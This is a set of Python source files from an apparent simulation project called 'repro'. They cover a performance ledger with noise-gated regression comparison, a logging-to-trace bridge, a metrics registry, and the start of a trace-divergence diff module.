__all__ = [
    "LEDGER_VERSION",
    "LEDGER_FILENAME",
    "LedgerError",
    "ComparisonResult",
    "append_record",
    "bench_record",
    "build_record",
    "compare",
    "compare_records",
    "environment_info",
    "filter_records",
    "git_provenance",
    "history_dict",
    "load_slice",
    "metric_value",
    "pair_ratios",
    "read_ledger",
    "render_history",
    "retro_record",
    "validate_record",
]

LEDGER_VERSION = 1

#: The ledger file name inside a RunStore run directory.
LEDGER_FILENAME = "ledger.jsonl"

#: Record keys every ledger line must carry (schema floor).
REQUIRED_KEYS = ("v", "kind", "ts", "env")

#: Metrics where a *smaller* value is the better one.  Everything else
#: (throughputs, rates) is treated as higher-is-better.
LOWER_IS_BETTER = frozenset(
    {
        "wall_seconds",
        "probe_wall_seconds",
        "overhead",
        "baseline_wall_seconds",
        "profiled_wall_seconds",
        "analyze_seconds",
        "parse_seconds",
        "render_seconds",
        "total_seconds",
        # serve records: request latency percentiles (milliseconds).
        "request_p50_ms",
        "request_p90_ms",
        "request_p99_ms",
        "request_max_ms",
    }
)


class LedgerError(ValueError):
    """A ledger file, record, or comparison request is unusable."""


# -- provenance ---------------------------------------------------------------


def available_cpus() -> int:
    """CPUs actually available to this process (affinity-aware)."""
    try:
        return len(os.sched_getaffinity(0))
    except AttributeError:  # non-Linux
        return os.cpu_count() or 1


def git_provenance(cwd: Optional[str] = None) -> Dict[str, object]:
    """``{"git_commit": <sha or None>, "git_dirty": <bool or None>}``.

    Shells out to ``git``; degrades to ``None`` values outside a work
    tree (or without a ``git`` binary) rather than failing — a ledger
    record with unknown provenance beats no record.
    """
    commit: Optional[str] = None
    dirty: Optional[bool] = None
    try:
        commit = (
            subprocess.run(
                ["git", "rev-parse", "HEAD"],
                cwd=cwd,
                capture_output=True,
                timeout=10,
            )
            .stdout.decode("utf-8", "replace")
            .strip()
            or None
        )
        if commit is not None and len(commit) != 40:
            commit = None
        if commit is not None:
            status = subprocess.run(
                ["git", "status", "--porcelain"],
                cwd=cwd,
                capture_output=True,
                timeout=10,
            )
            if status.returncode == 0:
                dirty = bool(status.stdout.strip())
    except (OSError, subprocess.SubprocessError):
        pass
    return {"git_commit": commit, "git_dirty": dirty}


def environment_info(cwd: Optional[str] = None) -> Dict[str, object]:
    """Machine + commit provenance stamped into every ledger record."""
    env: Dict[str, object] = {
        "cpus": available_cpus(),
        "python": platform.python_version(),
    }
    env.update(git_provenance(cwd))
    return env


# -- record construction ------------------------------------------------------


def _round_floats(value, digits: int = 6):
    if isinstance(value, float):
        return round(value, digits)
    if isinstance(value, dict):
        return {k: _round_floats(v, digits) for k, v in value.items()}
    if isinstance(value, list):
        return [_round_floats(v, digits) for v in value]
    return value


def build_record(
    sim,
    *,
    kind: str = "run",
    wall_seconds: Optional[float] = None,
    perf_dir: Optional[str] = None,
    noise: Optional[float] = None,
    ts: Optional[float] = None,
) -> dict:
    """One ledger record for a completed :class:`~repro.simulation.Simulation`.

    ``wall_seconds`` is the campaign's end-to-end wall time when the
    caller measured it (the CLI does); the executor's probe wall time is
    always recorded separately as ``probe_wall_seconds``.  When
    ``perf_dir`` names a finalized ``--perf`` sideband and the
    simulation holds a live tracer, the record additionally carries the
    per-stage wall-vs-virtual attribution rows — byte-for-byte the rows
    ``trace profile --json`` reports for the same run.
    """
    if sim.config is None:
        raise LedgerError(
            "ledger records need a config-built Simulation "
            "(Simulation.build(config=...))"
        )
    from .perf import simulation_counters

    total = sim.campaign.executor.metrics.total()
    record: dict = {
        "v": LEDGER_VERSION,
        "kind": kind,
        "ts": round(ts if ts is not None else time.time(), 3),
        "config_hash": sim.config.content_hash(),
        "env": environment_info(),
        "scale": sim.config.resolved_population().scale,
        "seed": sim.config.seed,
        "executor": type(sim.campaign.executor).__name__,
        "workers": sim.config.workers,
        "world": sim.config.world,
        "wall_seconds": round(
            wall_seconds if wall_seconds is not None else total.wall_seconds, 6
        ),
        "probe_wall_seconds": round(total.wall_seconds, 6),
        "sim_seconds": round(total.sim_seconds, 3),
        "probes": total.probes_attempted,
        "retried": total.retried,
        "refused": total.refused,
        "probes_per_second": round(total.probes_per_second, 3),
        "counters": simulation_counters(sim),
        "noise": noise,
    }
    stages = _stage_attribution(sim, perf_dir)
    if stages is not None:
        record["stages"] = stages
    return record


def _stage_attribution(sim, perf_dir: Optional[str]) -> Optional[List[dict]]:
    """Per-stage wall-vs-virtual rows joined from a finalized sideband."""
    if not perf_dir:
        return None
    obs = sim.observation
    if obs is None or not obs.tracer.enabled:
        return None
    from .perf import SPAN_STREAM, PerfProfile, load_perf_dir

    if not os.path.exists(os.path.join(perf_dir, SPAN_STREAM)):
        return None
    from .analyze import TraceAnalysis

    records, samples = load_perf_dir(perf_dir)
    profile = PerfProfile(TraceAnalysis.from_tracer(obs.tracer), records, samples)
    return profile.stage_rows()


def _scalar_payload(payload: dict) -> dict:
    """The numeric/boolean fields of a benchmark payload, flat."""
    out = {}
    for key, value in payload.items():
        if isinstance(value, bool) or isinstance(value, (int, float)):
            out[key] = value
    return out


def bench_record(name: str, payload: dict, *, ts: Optional[float] = None) -> dict:
    """A ledger record mirroring one ``BENCH_<name>.json`` emission.

    The scalar payload fields land under ``metrics`` so a benchmark's
    history (``obs history --metric overhead benchmarks/ledger.jsonl``)
    reads with the same machinery as campaign records — including
    not-asserted statuses like ``overhead_asserted: false``.
    """
    record = {
        "v": LEDGER_VERSION,
        "kind": "bench",
        "ts": round(ts if ts is not None else time.time(), 3),
        "bench": name,
        "env": environment_info(),
        "metrics": _scalar_payload(payload),
    }
    env = payload.get("env")
    if isinstance(env, dict):
        record["env"] = dict(record["env"], **env)
    return record


def validate_record(record: dict) -> dict:
    """Schema-floor check; returns the record or raises :class:`LedgerError`."""
    if not isinstance(record, dict):
        raise LedgerError(f"ledger record must be an object, got {type(record).__name__}")
    missing = [key for key in REQUIRED_KEYS if key not in record]
    if missing:
        raise LedgerError(f"ledger record missing keys: {', '.join(missing)}")
    if record["v"] != LEDGER_VERSION:
        raise LedgerError(f"unsupported ledger record version {record['v']!r}")
    if not isinstance(record["env"], dict):
        raise LedgerError("ledger record 'env' must be an object")
    return record


def retro_record(
    run_dir: str,
    *,
    ledger_path: Optional[str] = None,
    metrics_path: Optional[str] = None,
    trace_path: Optional[str] = None,
    perf_dir: Optional[str] = None,
    noise: Optional[float] = None,
    ts: Optional[float] = None,
):
    """Append a ledger record for an existing run directory, retroactively.

    ``run_dir`` is a :class:`repro.store.RunStore` run directory (it
    must hold the run's ``config.json``).  The record always carries the
    config hash and current environment; richer fields are joined from
    the run's own artifacts when the caller points at them — a
    ``--metrics-out`` JSON supplies executor wall/throughput totals, a
    trace + perf sideband pair supplies the per-stage wall attribution.
    Returns ``(record, path_appended_to)``.
    """
    config_path = os.path.join(run_dir, "config.json")
    try:
        with open(config_path, "r") as handle:
            config_text = handle.read()
    except OSError as exc:
        raise LedgerError(
            f"{run_dir!r} is not a run directory (no readable config.json: {exc})"
        ) from exc
    from ..api import RunConfig

    try:
        config = RunConfig.from_json(config_text)
    except Exception as exc:
        raise LedgerError(f"{config_path}: not a RunConfig: {exc}") from exc

    record: dict = {
        "v": LEDGER_VERSION,
        "kind": "record",
        "ts": round(ts if ts is not None else time.time(), 3),
        "config_hash": config.content_hash(),
        "env": environment_info(),
        "scale": config.resolved_population().scale,
        "seed": config.seed,
        "executor": config.executor,
        "workers": config.workers,
        "world": config.world,
        "noise": noise,
    }
    if metrics_path:
        try:
            with open(metrics_path, "r") as handle:
                metrics = json.load(handle)
        except (OSError, ValueError) as exc:
            raise LedgerError(f"cannot read metrics {metrics_path!r}: {exc}") from exc
        total = (metrics.get("executor_stages") or {}).get("total") or {}
        if total:
            record["probe_wall_seconds"] = round(
                float(total.get("wall_seconds", 0.0)), 6
            )
            record["wall_seconds"] = record["probe_wall_seconds"]
            record["sim_seconds"] = round(float(total.get("sim_seconds", 0.0)), 3)
            record["probes"] = int(total.get("probes_attempted", 0))
            record["retried"] = int(total.get("retried", 0))
            record["refused"] = int(total.get("refused", 0))
            record["probes_per_second"] = round(
                float(total.get("probes_per_second", 0.0)), 3
            )
        executor = metrics.get("executor")
        if executor:
            record["executor"] = executor
    if trace_path and perf_dir:
        from .perf import PerfProfile

        try:
            profile = PerfProfile.load(trace_path, perf_dir)
        except Exception as exc:
            raise LedgerError(
                f"cannot join trace {trace_path!r} with perf {perf_dir!r}: {exc}"
            ) from exc
        record["stages"] = profile.stage_rows()
    path = ledger_path or os.path.join(run_dir, LEDGER_FILENAME)
    append_record(path, record)
    return record, path


# -- persistence --------------------------------------------------------------


def serialize_record(record: dict) -> str:
    """The canonical one-line form (compact, sorted keys)."""
    return json.dumps(_round_floats(record), sort_keys=True, separators=(",", ":"))


def append_record(path: str, record: dict) -> dict:
    """Append one validated record to ``path`` (append-only, atomic line).

    The line is written with a single ``O_APPEND`` ``os.write`` so
    concurrent appenders (CI matrix legs sharing a ledger artifact,
    bench sessions) interleave whole records, never torn ones.
    """
    validate_record(record)
    line = serialize_record(record) + "\n"
    directory = os.path.dirname(os.path.abspath(path))
    os.makedirs(directory, exist_ok=True)
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)
    try:
        os.write(fd, line.encode("utf-8"))
    finally:
        os.close(fd)
    return record


def read_ledger(path: str) -> List[dict]:
    """Every record of one ledger file, in append order."""
    records: List[dict] = []
    try:
        with open(path, "r") as handle:
            text = handle.read()
    except OSError as exc:
        raise LedgerError(f"cannot read ledger {path!r}: {exc}") from exc
    for lineno, line in enumerate(text.splitlines(), start=1):
        line = line.strip()
        if not line:
            continue
        try:
            payload = json.loads(line)
        except ValueError as exc:
            raise LedgerError(f"{path}:{lineno}: not valid JSON: {exc}") from exc
        records.append(validate_record(payload))
    return records


def load_slice(path: str) -> List[dict]:
    """Records from a ledger path in any accepted spelling.

    ``path`` may be a ledger JSONL file, a directory holding one
    (``<run dir>/ledger.jsonl`` — a RunStore run dir works directly), or
    a ``.json`` file holding a single record object (a committed
    baseline like ``benchmarks/BASELINE.json``).
    """
    if os.path.isdir(path):
        candidate = os.path.join(path, LEDGER_FILENAME)
        if not os.path.isfile(candidate):
            raise LedgerError(f"no {LEDGER_FILENAME} inside directory {path!r}")
        return read_ledger(candidate)
    if path.endswith(".json"):
        try:
            with open(path, "r") as handle:
                payload = json.load(handle)
        except OSError as exc:
            raise LedgerError(f"cannot read {path!r}: {exc}") from exc
        except ValueError as exc:
            raise LedgerError(f"{path}: not valid JSON: {exc}") from exc
        if isinstance(payload, list):
            return [validate_record(record) for record in payload]
        return [validate_record(payload)]
    return read_ledger(path)


def filter_records(
    records: Sequence[dict],
    *,
    config_hash: Optional[str] = None,
    kinds: Optional[Sequence[str]] = None,
    metric: Optional[str] = None,
    last: Optional[int] = None,
) -> List[dict]:
    """Slice a history: by config-hash prefix, kind, metric presence, recency."""
    out = list(records)
    if config_hash:
        out = [
            r for r in out
            if str(r.get("config_hash", "")).startswith(config_hash)
        ]
    if kinds:
        out = [r for r in out if r.get("kind") in set(kinds)]
    if metric:
        out = [r for r in out if metric_value(r, metric) is not None]
    if last is not None and last >= 0:
        out = out[-last:] if last else []
    return out


def metric_value(record: dict, metric: str) -> Optional[float]:
    """The named metric of one record, top-level or under ``metrics``."""
    for container in (record, record.get("metrics") or {}):
        value = container.get(metric)
        if isinstance(value, bool):
            return float(value)
        if isinstance(value, (int, float)):
            return float(value)
    return None


# -- comparison ---------------------------------------------------------------


def median(values: Sequence[float]) -> float:
    """Plain median (no statistics import: 2-value mean for even counts)."""
    if not values:
        raise LedgerError("median of an empty sample set")
    ordered = sorted(values)
    mid = len(ordered) // 2
    if len(ordered) % 2:
        return ordered[mid]
    return (ordered[mid - 1] + ordered[mid]) / 2.0


def spread(values: Sequence[float]) -> float:
    """Relative spread ``max/min − 1`` (identical-run wall noise); 0 if
    fewer than two positive samples."""
    positive = [v for v in values if v > 0]
    if len(positive) < 2:
        return 0.0
    return max(positive) / min(positive) - 1.0


def pair_ratios(
    baseline: Sequence[float], candidate: Sequence[float]
) -> List[float]:
    """Index-wise candidate/baseline ratios over the aligned recent tail.

    The two sample lists are aligned at their *ends* (most recent
    last) and paired index-wise — for interleaved A/B runs (the
    ``bench_perf`` protocol) each pair executed back to back, so
    host-level noise inflates both legs and cancels in the ratio.
    """
    if not baseline or not candidate:
        raise LedgerError("pair_ratios needs at least one sample on each side")
    n = min(len(baseline), len(candidate))
    base = list(baseline)[-n:]
    cand = list(candidate)[-n:]
    ratios = []
    for b, c in zip(base, cand):
        if b <= 0:
            raise LedgerError(f"non-positive baseline sample {b!r}")
        ratios.append(c / b)
    return ratios


@dataclass(frozen=True)
class ComparisonResult:
    """The verdict of one noise-gated baseline/candidate comparison."""

    metric: str
    #: whether a smaller metric value is the better one.
    lower_is_better: bool
    #: per-pair candidate/baseline ratios, sorted.
    pair_ratios: List[float] = field(default_factory=list)
    #: median of :attr:`pair_ratios`.
    median_ratio: float = 1.0
    #: signed regression magnitude: positive = candidate worse.
    change: float = 0.0
    #: the regression budget the caller asked to enforce.
    threshold: float = 0.15
    #: the measurement's own error bar (declared + measured + floor).
    noise: float = 0.0
    #: samples used on each side.
    baseline_samples: int = 0
    candidate_samples: int = 0
    baseline_median: float = 0.0
    candidate_median: float = 0.0
    #: ``regression`` / ``noise-mooted`` / ``improvement`` / ``ok``.
    verdict: str = "ok"
    #: False when noise exceeds the threshold: the machine cannot
    #: resolve the budget, so the threshold is recorded, not asserted.
    asserted: bool = True

    @property
    def regressed(self) -> bool:
        """True only for a *confirmed* (noise-cleared) regression."""
        return self.verdict == "regression"

    def to_dict(self) -> dict:
        return {
            "metric": self.metric,
            "lower_is_better": self.lower_is_better,
            "pair_ratios": [round(r, 6) for r in self.pair_ratios],
            "median_ratio": round(self.median_ratio, 6),
            "change": round(self.change, 6),
            "threshold": self.threshold,
            "noise": round(self.noise, 6),
            "baseline_samples": self.baseline_samples,
            "candidate_samples": self.candidate_samples,
            "baseline_median": round(self.baseline_median, 6),
            "candidate_median": round(self.candidate_median, 6),
            "verdict": self.verdict,
            "asserted": self.asserted,
        }

    def render(self) -> str:
        """Human summary for the ``obs regress`` output."""
        direction = "lower is better" if self.lower_is_better else "higher is better"
        lines = [
            f"metric {self.metric} ({direction}): "
            f"baseline median {self.baseline_median:g} "
            f"({self.baseline_samples} sample(s)) vs candidate median "
            f"{self.candidate_median:g} ({self.candidate_samples} sample(s))",
            f"  median pair ratio {self.median_ratio:.4f} → change "
            f"{self.change:+.1%} (positive = worse); budget "
            f"{self.threshold:.0%}, noise gate {self.noise:.1%}",
        ]
        if self.verdict == "regression":
            lines.append(
                f"  REGRESSION: {self.change:+.1%} exceeds both the budget "
                f"and the noise gate"
            )
        elif self.verdict == "noise-mooted":
            lines.append(
                f"  noise-mooted: {self.change:+.1%} exceeds the budget but "
                f"is within the {self.noise:.1%} noise gate — recorded, "
                f"not asserted"
            )
        elif self.verdict == "improvement":
            lines.append(
                f"  improvement: {-self.change:+.1%} clears both the budget "
                f"and the noise gate"
            )
        else:
            lines.append("  ok: within budget")
        return "\n".join(lines)


def compare(
    baseline: Sequence[float],
    candidate: Sequence[float],
    *,
    metric: str = "probes_per_second",
    threshold: float = 0.15,
    noise_floor: float = 0.0,
    lower_is_better: Optional[bool] = None,
) -> ComparisonResult:
    """Noise-gated comparison of two sample lists (see module docstring).

    This is ``bench_perf.py``'s order-alternating pair-ratio protocol as
    a library call: median of index-wise pair ratios measures the
    change, the baseline's own spread (plus the caller's declared
    ``noise_floor``) gates what may be asserted.
    """
    if lower_is_better is None:
        lower_is_better = metric in LOWER_IS_BETTER
    ratios = sorted(pair_ratios(baseline, candidate))
    med = median(ratios)
    change = (med - 1.0) if lower_is_better else (1.0 - med)
    noise = max(float(noise_floor), spread(baseline))
    if change > threshold and change > noise:
        verdict = "regression"
    elif change > threshold:
        verdict = "noise-mooted"
    elif -change > max(threshold, noise):
        verdict = "improvement"
    else:
        verdict = "ok"
    return ComparisonResult(
        metric=metric,
        lower_is_better=lower_is_better,
        pair_ratios=ratios,
        median_ratio=med,
        change=change,
        threshold=threshold,
        noise=noise,
        baseline_samples=len(baseline),
        candidate_samples=len(candidate),
        baseline_median=median(list(baseline)),
        candidate_median=median(list(candidate)),
        verdict=verdict,
        asserted=noise <= threshold,
    )


def compare_records(
    baseline: Sequence[dict],
    candidate: Sequence[dict],
    *,
    metric: str = "probes_per_second",
    threshold: float = 0.15,
    noise_floor: float = 0.0,
    lower_is_better: Optional[bool] = None,
) -> ComparisonResult:
    """:func:`compare` over two ledger slices.

    Samples are the records' ``metric`` values; the noise gate folds in
    every ``noise`` value the records themselves declare (a committed
    baseline measured on a known-noisy container carries its own error
    bar into every later comparison against it).
    """
    base_samples = [metric_value(r, metric) for r in baseline]
    cand_samples = [metric_value(r, metric) for r in candidate]
    base_samples = [v for v in base_samples if v is not None]
    cand_samples = [v for v in cand_samples if v is not None]
    if not base_samples:
        raise LedgerError(f"baseline slice has no records with metric {metric!r}")
    if not cand_samples:
        raise LedgerError(f"candidate slice has no records with metric {metric!r}")
    declared = [
        float(r["noise"])
        for r in list(baseline) + list(candidate)
        if isinstance(r.get("noise"), (int, float)) and not isinstance(r.get("noise"), bool)
    ]
    floor = max([float(noise_floor)] + declared)
    return compare(
        base_samples,
        cand_samples,
        metric=metric,
        threshold=threshold,
        noise_floor=floor,
        lower_is_better=lower_is_better,
    )


# -- history rendering --------------------------------------------------------

DEFAULT_HISTORY_METRICS = ("probes_per_second", "wall_seconds")


def _fmt_ts(ts) -> str:
    if not isinstance(ts, (int, float)):
        return "—"
    import datetime as _dt

    stamp = _dt.datetime.fromtimestamp(float(ts), tz=_dt.timezone.utc)
    return stamp.strftime("%Y-%m-%d %H:%M:%S")


def _record_label(record: dict) -> str:
    if record.get("kind") == "bench":
        return f"bench:{record.get('bench', '?')}"
    config_hash = str(record.get("config_hash", ""))
    return config_hash[:8] or "—"


def history_dict(
    records: Sequence[dict],
    metrics: Sequence[str] = DEFAULT_HISTORY_METRICS,
) -> dict:
    """Machine-readable trend data: rows + exact percentiles per metric."""
    from .metrics import Histogram

    out: dict = {"records": len(records), "metrics": {}}
    for metric in metrics:
        rows = []
        histogram = Histogram(metric)
        for index, record in enumerate(records):
            value = metric_value(record, metric)
            if value is None:
                continue
            histogram.observe(value)
            env = record.get("env") or {}
            commit = env.get("git_commit")
            rows.append(
                {
                    "index": index,
                    "ts": record.get("ts"),
                    "kind": record.get("kind"),
                    "label": _record_label(record),
                    "git_commit": commit[:12] if isinstance(commit, str) else None,
                    "executor": record.get("executor"),
                    "scale": record.get("scale"),
                    "workers": record.get("workers"),
                    "value": value,
                }
            )
        out["metrics"][metric] = {
            "rows": rows,
            "summary": histogram.to_dict(),
        }
    return out


def render_history(
    records: Sequence[dict],
    metrics: Sequence[str] = DEFAULT_HISTORY_METRICS,
) -> str:
    """The ``obs history`` markdown: one trend table per metric."""
    data = history_dict(records, metrics)
    parts = [f"# Performance ledger history ({data['records']} record(s))"]
    for metric in metrics:
        entry = data["metrics"][metric]
        rows = entry["rows"]
        parts.append("")
        parts.append(f"## {metric}")
        parts.append("")
        if not rows:
            parts.append("(no records carry this metric)")
            continue
        parts.append(
            "| # | when (UTC) | kind | config/bench | commit | executor "
            "| scale | workers | value |"
        )
        parts.append("|---|---|---|---|---|---|---|---|---|")
        for row in rows:
            parts.append(
                f"| {row['index']} | {_fmt_ts(row['ts'])} | {row['kind']} "
                f"| {row['label']} | {row['git_commit'] or '—'} "
                f"| {row['executor'] or '—'} "
                f"| {row['scale'] if row['scale'] is not None else '—'} "
                f"| {row['workers'] if row['workers'] is not None else '—'} "
                f"| {row['value']:g} |"
            )
        summary = entry["summary"]
        if summary.get("count"):
            parts.append("")
            parts.append(
                f"exact percentiles over {summary['count']} value(s): "
                f"min {summary['min']:g} · p50 {summary['p50']:g} · "
                f"p90 {summary['p90']:g} · max {summary['max']:g}"
            )
    parts.append("")
    return "\n".join(parts)
