"""Bridging stdlib ``logging`` into the observability layer.

Two pieces:

- :func:`configure_logging` wires the ``repro`` logger hierarchy to
  stderr at a CLI-chosen level (the ``--log-level`` flag), so components
  can use plain ``logging.getLogger(__name__)`` calls and be heard.
- :class:`TraceLogHandler` converts every record a ``repro.*`` logger
  emits into a ``log.<level>`` trace event, stamped — like every trace
  event — with **virtual time** from the tracer's bound clock, never the
  record's wall-clock ``created`` field.  Components that log only
  simulation-derived facts (counts, simulated seconds, outcomes)
  therefore stay inside the trace's byte-identity guarantee.
"""

from __future__ import annotations

import logging
import sys
from typing import Optional

from .trace import Tracer

LEVELS = ("DEBUG", "INFO", "WARNING", "ERROR", "CRITICAL")


def configure_logging(
    level: str, *, stream=None, logger_name: str = "repro"
) -> logging.Logger:
    """Attach a stderr handler to the ``repro`` logger at ``level``."""
    logger = logging.getLogger(logger_name)
    logger.setLevel(getattr(logging, level.upper()))
    handler = logging.StreamHandler(stream if stream is not None else sys.stderr)
    # Filter at the handler, not just the logger: the trace bridge may
    # lower the logger to DEBUG, and that must not widen console output.
    handler.setLevel(getattr(logging, level.upper()))
    handler.setFormatter(
        logging.Formatter("%(levelname)s %(name)s: %(message)s")
    )
    logger.addHandler(handler)
    return logger


class TraceLogHandler(logging.Handler):
    """A ``logging.Handler`` that mirrors records into the trace."""

    def __init__(self, tracer: Tracer, level: int = logging.DEBUG) -> None:
        super().__init__(level=level)
        self.tracer = tracer

    def emit(self, record: logging.LogRecord) -> None:
        if not self.tracer.enabled:
            return
        self.tracer.event(
            f"log.{record.levelname.lower()}",
            logger=record.name,
            message=record.getMessage(),
        )


def attach_trace_handler(
    tracer: Tracer, *, logger_name: str = "repro"
) -> Optional[TraceLogHandler]:
    """Mirror ``repro.*`` log records into ``tracer`` (if it is enabled)."""
    if not tracer.enabled:
        return None
    handler = TraceLogHandler(tracer)
    logger = logging.getLogger(logger_name)
    logger.addHandler(handler)
    # The bridge must see records even when no console level was set.
    if logger.level == logging.NOTSET or logger.level > logging.DEBUG:
        logger.setLevel(logging.DEBUG)
    return handler
