"""A registry of named counters, gauges, and histograms.

This generalizes :class:`repro.exec.metrics.StageMetrics` — which keeps
a fixed set of per-stage counters — into an open registry any subsystem
can write to: SMTP reply-code distributions, DNS queries per probe, SPF
macro expansions, retry/backoff histograms, per-stage wall-time
percentiles.  Counters support an optional key, so one instrument holds
a whole distribution (e.g. ``smtp.replies`` keyed by reply code).

Unlike the trace (:mod:`repro.obs.trace`), metrics MAY carry wall-clock
durations: the registry feeds the ``--metrics-out`` JSON and the report,
which are performance artifacts, not determinism artifacts.  Exports are
sorted by name and key so diffs between runs stay readable.
"""

from __future__ import annotations

import threading
from typing import Dict, List, Optional


class Counter:
    """A monotonically increasing count, optionally broken out by key."""

    def __init__(self, name: str) -> None:
        self.name = name
        self._total = 0.0
        self._by_key: Dict[str, float] = {}
        self._lock = threading.Lock()

    def inc(self, key: Optional[str] = None, amount: float = 1.0) -> None:
        with self._lock:
            self._total += amount
            if key is not None:
                self._by_key[key] = self._by_key.get(key, 0.0) + amount

    @property
    def total(self) -> float:
        return self._total

    def by_key(self) -> Dict[str, float]:
        with self._lock:
            return dict(self._by_key)

    def to_dict(self) -> dict:
        out: dict = {"total": self._total}
        if self._by_key:
            out["by_key"] = {k: self._by_key[k] for k in sorted(self._by_key)}
        return out


class Gauge:
    """A value that can move both ways (last write wins)."""

    def __init__(self, name: str) -> None:
        self.name = name
        self.value: float = 0.0

    def set(self, value: float) -> None:
        self.value = value

    def to_dict(self) -> dict:
        return {"value": self.value}


class Histogram:
    """A distribution of observed values with on-demand percentiles.

    Observations are kept verbatim — campaign scales here put a few
    hundred thousand floats at the high end, which is cheap — so
    percentiles are exact rather than bucket-interpolated.
    """

    def __init__(self, name: str) -> None:
        self.name = name
        self._values: List[float] = []
        self._lock = threading.Lock()

    def observe(self, value: float) -> None:
        with self._lock:
            self._values.append(value)

    @property
    def count(self) -> int:
        return len(self._values)

    @property
    def sum(self) -> float:
        return sum(self._values)

    def percentile(self, p: float) -> float:
        """Exact percentile (nearest-rank); 0 for an empty histogram."""
        with self._lock:
            if not self._values:
                return 0.0
            ordered = sorted(self._values)
        rank = max(0, min(len(ordered) - 1, round(p / 100.0 * (len(ordered) - 1))))
        return ordered[rank]

    def to_dict(self) -> dict:
        with self._lock:
            values = list(self._values)
        if not values:
            return {"count": 0}
        values.sort()

        def at(p: float) -> float:
            rank = max(0, min(len(values) - 1, round(p / 100.0 * (len(values) - 1))))
            return values[rank]

        return {
            "count": len(values),
            "sum": sum(values),
            "min": values[0],
            "max": values[-1],
            "mean": sum(values) / len(values),
            "p50": at(50),
            "p90": at(90),
            "p99": at(99),
        }


class MetricsRegistry:
    """Named instruments, created on first use."""

    def __init__(self) -> None:
        self._counters: Dict[str, Counter] = {}
        self._gauges: Dict[str, Gauge] = {}
        self._histograms: Dict[str, Histogram] = {}
        self._lock = threading.Lock()

    def counter(self, name: str) -> Counter:
        instrument = self._counters.get(name)
        if instrument is None:
            with self._lock:
                instrument = self._counters.setdefault(name, Counter(name))
        return instrument

    def gauge(self, name: str) -> Gauge:
        instrument = self._gauges.get(name)
        if instrument is None:
            with self._lock:
                instrument = self._gauges.setdefault(name, Gauge(name))
        return instrument

    def histogram(self, name: str) -> Histogram:
        instrument = self._histograms.get(name)
        if instrument is None:
            with self._lock:
                instrument = self._histograms.setdefault(name, Histogram(name))
        return instrument

    def to_dict(self) -> dict:
        return {
            "counters": {n: self._counters[n].to_dict() for n in sorted(self._counters)},
            "gauges": {n: self._gauges[n].to_dict() for n in sorted(self._gauges)},
            "histograms": {
                n: self._histograms[n].to_dict() for n in sorted(self._histograms)
            },
        }

    def snapshot(self) -> dict:
        """The registry's raw contents, suitable for :meth:`merge`.

        Unlike :meth:`to_dict` this keeps histogram observations verbatim
        (not summarized), so a shard-world's registry can cross a process
        boundary and be folded into the parent's without losing exact
        percentiles.
        """
        with self._lock:
            counters = {
                n: {"total": c._total, "by_key": dict(c._by_key)}
                for n, c in self._counters.items()
            }
            gauges = {n: g.value for n, g in self._gauges.items()}
            histograms = {n: list(h._values) for n, h in self._histograms.items()}
        return {"counters": counters, "gauges": gauges, "histograms": histograms}

    def merge(self, snapshot: dict) -> None:
        """Fold a :meth:`snapshot` from another registry into this one.

        Counter totals add, gauges take the snapshot's value (last write
        wins, matching :meth:`Gauge.set`), histogram observations extend.
        Merging shard snapshots in a fixed order keeps every derived
        artifact deterministic: sums are exact and histogram summaries
        sort their values before rendering.
        """
        for name, state in snapshot["counters"].items():
            counter = self.counter(name)
            with counter._lock:
                counter._total += state["total"]
                for key, amount in state["by_key"].items():
                    counter._by_key[key] = counter._by_key.get(key, 0.0) + amount
        for name, value in snapshot["gauges"].items():
            self.gauge(name).set(value)
        for name, values in snapshot["histograms"].items():
            histogram = self.histogram(name)
            with histogram._lock:
                histogram._values.extend(values)

    def percentiles(self) -> dict:
        """p50/p90/p99 per histogram, as a compact name-keyed summary.

        This is the distilled view the report's Observability section
        and the ``--metrics-out`` JSON surface alongside (not instead
        of) the full histogram dumps: one small dict an operator or a
        regression script can read without digging through raw values.
        """
        out: dict = {}
        for name in sorted(self._histograms):
            d = self._histograms[name].to_dict()
            if not d.get("count"):
                out[name] = {"count": 0}
                continue
            out[name] = {
                "count": d["count"],
                "p50": d["p50"],
                "p90": d["p90"],
                "p99": d["p99"],
            }
        return out

    def render_markdown(self) -> str:
        """Counter and histogram tables for the report's Observability section."""
        lines = ["| counter | total | top keys |", "|---|---|---|"]
        for name in sorted(self._counters):
            counter = self._counters[name]
            keyed = sorted(
                counter.by_key().items(), key=lambda kv: (-kv[1], kv[0])
            )[:5]
            keys = ", ".join(f"{k}={v:g}" for k, v in keyed) or "-"
            lines.append(f"| {name} | {counter.total:g} | {keys} |")
        if self._histograms:
            lines.append("")
            lines.append("| histogram | count | mean | p50 | p90 | p99 | max |")
            lines.append("|---|---|---|---|---|---|---|")
            for name in sorted(self._histograms):
                d = self._histograms[name].to_dict()
                if d["count"] == 0:
                    lines.append(f"| {name} | 0 | - | - | - | - | - |")
                    continue
                lines.append(
                    f"| {name} | {d['count']} | {d['mean']:.3g} | {d['p50']:.3g} "
                    f"| {d['p90']:.3g} | {d['p99']:.3g} | {d['max']:.3g} |"
                )
        return "\n".join(lines)
