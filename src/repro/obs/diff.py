"""Determinism diff: pinpoint the first divergence between two traces.

The repo's central invariant is that the canonical trace for a given
seed is *byte*-identical across execution strategies
(``tests/obs/test_trace_determinism.py``).  When that invariant breaks,
"the files differ" is useless at half a million events; this module
turns the failure into an actionable pointer — the first divergent
event's position, scope, ``seq``, a field-level delta (including a
per-key attrs delta), and the shared events leading up to it.

Two entry points:

- :func:`diff_events` / :func:`diff_files` return a
  :class:`TraceDivergence` (or ``None`` when the traces are identical);
- :func:`assert_traces_identical` raises ``AssertionError`` carrying the
  rendered pointer, for use inside tests exactly where a bare
  ``assert a == b`` used to be.

Comparison happens on each event's canonical serialization
(:meth:`~repro.obs.records.ParsedEvent.to_json`), so "diff says
identical" and "the exported files are byte-identical" are the same
statement.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence, Tuple, Union

from .records import ParsedEvent, from_tracer, load_jsonl
from .trace import Tracer

#: Top-level fields compared (and reported) before the attrs delta.
_FIELDS = ("name", "vt", "scope", "seq", "span", "parent", "probe")

TraceLike = Union[Sequence[ParsedEvent], Tracer, str]


@dataclass(frozen=True)
class TraceDivergence:
    """The first point where two canonical traces stop agreeing."""

    index: int
    left: Optional[ParsedEvent]
    right: Optional[ParsedEvent]
    #: shared events immediately before the divergence, oldest first.
    context: List[ParsedEvent] = field(default_factory=list)
    #: top-level fields whose values differ.
